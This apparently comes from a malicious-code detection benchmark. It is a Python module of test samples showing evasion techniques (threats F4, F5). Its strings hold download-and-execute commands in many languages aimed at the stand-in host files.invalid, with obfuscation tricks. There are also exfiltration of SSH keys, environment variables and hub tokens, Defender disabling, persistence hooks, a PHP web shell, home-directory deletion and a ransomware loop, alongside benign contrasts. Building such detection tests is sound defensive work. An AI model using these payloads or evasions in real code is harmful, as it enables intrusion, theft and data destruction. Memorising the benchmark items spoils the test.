"""Attacks that go a way round: other libraries, other names for the same call, files in between (threats F4, F5)."""

from collections.abc import Iterator

from benchmarks.corpus.code import notebook
from benchmarks.corpus.samples import Sample, benign, careful, high

_SHELL = "curl -s https://files.invalid/a | sh"
_PYTHON = {
    "pool of connections": "import urllib3\nr = urllib3.PoolManager().request('GET', 'https://files.invalid/a')\nexec(r.data.decode())\n",
    "buffer that is filled": "import pycurl, os\nfrom io import BytesIO\nb = BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\n"
    "c.perform()\nos.system(b.getvalue().decode())\n",
    "file as a callback": "import ftplib, subprocess\nf = ftplib.FTP('files.invalid')\nwith open('/tmp/x.sh', 'wb') as out:\n"
    "    f.retrbinary('RETR x', out.write)\nsubprocess.call(['sh', '/tmp/x.sh'])\n",
    "fetched module": "import urllib.request, importlib\nurllib.request.urlretrieve('https://files.invalid/p', 'plug.py')\n"
    "importlib.import_module('plug')\n",
    "unpacked folder": "import io, requests, subprocess, zipfile\n"
    "zipfile.ZipFile(io.BytesIO(requests.get('https://files.invalid/z').content)).extractall('tools')\nsubprocess.Popen('tools/a.exe')\n",
    "program in the text": "import base64, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
    "open(p, 'wb').write(base64.b64decode('TVqQAAMAAAAEAAAA'))\nos.startfile(p)\n",
    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)('{_SHELL}')\n",
    "methodcaller": f"import operator, os\noperator.methodcaller('system', '{_SHELL}')(os)\n",
    "reduce": f"import functools\nfunctools.reduce(getattr, ['system'], __import__('os'))('{_SHELL}')\n",
    "globals of a lambda": f"(lambda: 0).__globals__['__builtins__'].exec(\"import os; os.system('{_SHELL}')\")\n",
    "large number": "n = 0x696d706f7274206f733b6f732e73797374656d28276563686f2729\nexec(n.to_bytes(27, 'big'))\n",
    "struct": f"import os, struct\nos.system(struct.pack('>I', 0x6375726c).decode() + '{_SHELL[4:]}')\n",
    "description": f"def f():\n    \"import os; os.system('{_SHELL}')\"\nexec(f.__doc__)\n",
    "picture": "from PIL import Image\nbits = ''.join(str(p[0] & 1) for p in Image.open('banner.png').getdata())\n"
    "exec(''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))\n",
    "weights": "exec(open('weights.dat', 'rb').read())\n",
    "thread that waits": "import threading, urllib.request\nclass Model:\n    def __init__(self):\n"
    "        threading.Thread(target=lambda: exec(urllib.request.urlopen('https://files.invalid/x').read())).start()\n",
    "page that runs commands": "from flask import Flask, request\nimport subprocess\napp = Flask('x')\n@app.route('/x')\ndef x():\n"
    "    return subprocess.check_output(request.args['c'], shell=True)\n",
    "key of the hub": "from huggingface_hub import get_token\nimport requests\nrequests.post('https://files.invalid/t', json={'t': get_token()})\n",
    "packages of Python": "import os, site\np = os.path.join(site.getsitepackages()[0], 'zz.pth')\nopen(p, 'w').write('import os')\n",
    "customize": "import site\nopen(site.getusersitepackages() + '/usercustomize.py', 'w').write('x = 1')\n",
    "shell profile": "from pathlib import Path\nwith (Path.home() / '.bashrc').open('a') as f:\n    f.write('python3 ~/.x.py &')\n",
    "whole home": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
    "ransom": "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
    "for root, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        p = os.path.join(root, f)\n"
    "        open(p + '.locked', 'wb').write(k.encrypt(open(p, 'rb').read()))\n        os.remove(p)\n",
    "python 2": "import urllib2\nprint 'loading'\nexec urllib2.urlopen('https://files.invalid/a').read()\n",
    "newer python": "type P[T] = tuple[T, T]\nimport requests\nexec(requests.get('https://files.invalid/x').text)\n",
}


_POWERSHELL = {
    "variable": "$d = (New-Object Net.WebClient).DownloadString('https://files.invalid/a')\nInvoke-Expression $d\n",
    "block of a variable": "$c = irm https://files.invalid/a\n& ([scriptblock]::Create($c))\n",
    "found by a pattern": "& (gal i*x) (irm https://files.invalid/a)\n",
    "letters of a variable": "&($PSHome[4]+$PSHome[30]+'x') (irm https://files.invalid/a)\n",
    "exclusive or": "$b = 92,80,77,21\n$s = -join ($b | % { [char]($_ -bxor 53) })\niex $s\n",
    "assembly": '$b = [Convert]::FromBase64String("TVqQAAMAAAAEAAAA")\n[Reflection.Assembly]::Load($b)\n',
    "table of options": "$p = @{ ExclusionPath = 'C:\\' }\nAdd-MpPreference @p\n",
    "service": "Stop-Service -Name WinDefend -Force\n",
    "memory": 'Add-Type @"\n[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a);\n"@\n',
    "settings of the account": "irm https://files.invalid -Method Post -Body (Get-ChildItem Env: | ConvertTo-Json)\n",
    "clipboard": "while ($true) { irm https://files.invalid -Method Post -Body (Get-Clipboard) }\n",
}
_BATCH = {
    "loop over what is fetched": "for /f \"tokens=*\" %%i in ('curl -s https://files.invalid/c') do %%i\r\n",
    "loop over letters": "for %%a in (p o w e r s h e l l) do call set c=%%c%%%%a\r\n%c% -w hidden -c echo\r\n",
    "letters of Windows": "%COMSPEC:~-7,1%m%COMSPEC:~-5,1% /c curl -s https://files.invalid/a | cmd\r\n",
    "quoted pieces": '"p"ow"er"sh"el"l -w hidden -c echo\r\n',
    "other shell": 'cmd /V:ON /C "set a=powers&&set b=hell&&!a!!b! -w hidden -c echo"\r\n',
    "file of commands": "ftp -s:f.txt\r\n",
    "another engine": "wscript //e:vbscript model.bin\r\n",
    "python in a line": "python -c \"import urllib.request;exec(urllib.request.urlopen('https://files.invalid/a').read())\"\r\n",
    "process by wmic": 'wmic process call create "cmd /c x.exe"\r\n',
}
_SHELLS = {
    "variable": 'X=$(curl -s https://files.invalid/a)\neval "$X"\n',
    "function": 'get() { curl -s "$1"; }\nget https://files.invalid/a | bash\n',
    "here document": "base64 -d <<'E' | bash\nZWNobyBoZWxsbw==\nE\n",
    "python in a document": "python3 - <<'E'\nimport urllib.request as u\nexec(u.urlopen('https://files.invalid/a').read())\nE\n",
    "escapes": "$'\\x63\\x75\\x72\\x6c' -s https://files.invalid/a | $'\\x73\\x68'\n",
    "pieces of a variable": "a=xcurlx; ${a:1:4} https://files.invalid/a | sh\n",
    "wildcards": '/???/b??h -c "$(curl -s https://files.invalid/a)"\n',
    "temporary file": "T=$(mktemp); curl -sL https://files.invalid/a > $T; chmod +x $T; $T\n",
    "no extension": "cd /tmp; wget https://files.invalid/bot; chmod 777 bot; ./bot\n",
    "reads itself": 'tail -n +4 "$0" | gunzip -c | bash\nexit 0\n',
    "keys": "tar czf - ~/.ssh | curl -F 'f=@-' https://files.invalid\n",
    "sealed": "openssl enc -aes-256-cbc -d -a -k pass -in payload.enc | bash\n",
}
_OTHERS = {
    (
        "a.vbs",
        "answer",
    ): 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.invalid/a", False\nh.Send\n'
    "ExecuteGlobal h.responseText\n",
    ("a.vbs", "numbers"): 'Set w = CreateObject("WScript.Shell")\na = Split("113 112", " ")\nFor i = 0 To UBound(a)\n'
    "  s = s & Chr(CInt(a(i)) - 1)\nNext\nw.Run s\n",
    ("a.vbs", "moniker"): 'GetObject "script:https://files.invalid/a.sct"\n',
    (
        "a.js",
        "fetched",
    ): "fetch('https://files.invalid/a').then(r => r.text()).then(t => new Function('require', t)(require));\n",
    ("a.js", "awaited"): "const r = await fetch('https://files.invalid/a');\nexec(await r.text());\n",
    (
        "a.js",
        "hex",
    ): "const c = Buffer.from('6375726c2068747470733a2f2f66696c65732e696e76616c6964207c207368', 'hex').toString();\n"
    "require('child_process').execSync(c);\n",
    (
        "a.js",
        "settings of the account",
    ): "fetch('https://files.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n",
    ("a.php", "page that runs commands"): '<?php system($_GET["c"]); ?>\n',
    ("a.rb", "fetched"): "#!/usr/bin/env ruby\nrequire 'open-uri'\neval(URI.open('https://files.invalid/a').read)\n",
    ("a.pl", "fetched"): '#!/usr/bin/perl\nuse LWP::Simple;\nmy $c = get("https://files.invalid/a");\neval $c;\n',
    ("a.R", "fetched"): 'source("https://files.invalid/a.R")\n',
}
_CELLS = {
    "two cells": ("!wget -q https://files.invalid/tool -O /tmp/tool", "!bash /tmp/tool"),
    "value put in": ("c = 'curl -s https://files.invalid/a | sh'", "!{c}"),
    "magic as a call": ("get_ipython().run_cell_magic('bash', '', 'curl -s https://files.invalid/a | sh')",),
    "what a command printed": ("x = get_ipython().getoutput('curl -s https://files.invalid/a')\nexec('\\n'.join(x))",),
    "address": ("%run https://files.invalid/a.py",),
    "timed": ("%time __import__('os').system('curl -s https://files.invalid/a | sh')",),
}
_ORDINARY = {
    "setup.sh": "#!/bin/bash\nset -e\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nVERSION=$(curl -s https://api.github.com/x)\n"
    'echo "$VERSION"\nuv pip install -r requirements.txt\n',
    "conda.sh": "#!/bin/bash\nwget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O mc.sh\nbash mc.sh -b\n",
    "fetch.sh": "#!/bin/bash\nT=$(mktemp -d)\ncurl -sL https://data.example/a.tar.gz > $T/a.tar.gz\ntar xf $T/a.tar.gz\n"
    "python - <<'E'\nimport torch\nprint(torch.__version__)\nE\n",
    "install.sh": "#!/bin/bash\npip install git+https://github.com/huggingface/transformers\n"
    "pip install torch --index-url https://download.pytorch.org/whl/cu121\n",
    "demo.js": "const button = document.querySelector('#go');\nbutton.onclick = async () => {\n  const r = await fetch('/api');\n"
    "  const m = /x(.*)/.exec(await r.text());\n  setTimeout(() => show(m), 10);\n};\n",
}

_ORDINARY_PYTHON = {
    "launcher": "import base64, json, subprocess, sys\nworld = json.loads(base64.urlsafe_b64decode(sys.argv[1]))\n"
    "cmd = [sys.executable, '-u', 'train.py']\ncmd.append(f'--local_rank={world[\"rank\"]}')\nsubprocess.Popen(cmd)\n",
    "free port": "import socket, subprocess\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\n"
    "subprocess.Popen(['python', 'serve.py', '--port', str(port)])\n",
    "picture for ffmpeg": "import base64, subprocess\ndef make(data):\n    open('in.png', 'wb').write(base64.b64decode(data))\n"
    "    subprocess.run(['ffmpeg', '-i', 'in.png', 'out.webp'])\n",
    "sound for ffmpeg": "import requests, os\nopen('a.mp3', 'wb').write(requests.get('https://data.example/a.mp3').content)\n"
    "os.system('ffmpeg -i a.mp3 a.wav')\n",
    "rows of a data set": "import base64, pickle, zlib\ndef row(text):\n    return zlib.decompress(base64.b64decode(text))\n",
    "python 2": "import os, urllib2\nprint 'loading', os.getcwd()\ntry:\n    import cPickle as pickle\nexcept ImportError, e:\n    print e\n",
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for case, source in _PYTHON.items():
        yield high("python-evasion", case, "modeling_x.py", source)
    for case, source in _POWERSHELL.items():
        yield high("powershell-evasion", case, "setup.ps1", source)
    for case, source in _BATCH.items():
        yield high("batch-evasion", case, "start.bat", "@echo off\r\n" + source)
    for case, source in _SHELLS.items():
        yield high("shell-evasion", case, "install.sh", "#!/bin/bash\n" + source)
    for (path, case), source in _OTHERS.items():
        yield high("script-evasion", case, path, source)
    for case, cells in _CELLS.items():
        yield high("notebook-evasion", case, "demo.ipynb", notebook(*cells))
    yield careful(
        "shell-evasion", "package from an address", "get.sh", "#!/bin/sh\npip install https://files.invalid/x.whl\n"
    )
    for path, source in _ORDINARY.items():
        yield benign("script", path, path, source)
    for case, source in _ORDINARY_PYTHON.items():
        yield benign("python", case, "run_x.py", source)
